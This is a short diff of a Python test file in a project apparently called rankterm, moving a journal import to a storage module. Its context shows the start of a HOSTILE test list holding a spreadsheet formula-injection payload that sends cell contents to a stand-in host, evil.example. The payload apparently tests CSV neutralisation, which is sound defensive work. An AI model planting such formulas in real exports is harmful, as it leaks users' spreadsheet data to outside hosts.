@@ -11,9 +11,9 @@ import pytest
 from rankterm.formats import FORMATS, ImportReader
 from rankterm.formats.csvmap import neutralise, restore
 from rankterm.formats.transfer import run_export
-from rankterm.journal import replay
 from rankterm.labels import Keep, LabelOptions, LabelPolicy
 from rankterm.model import Choice, Judgment, Pair
+from rankterm.storage.journal import replay
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
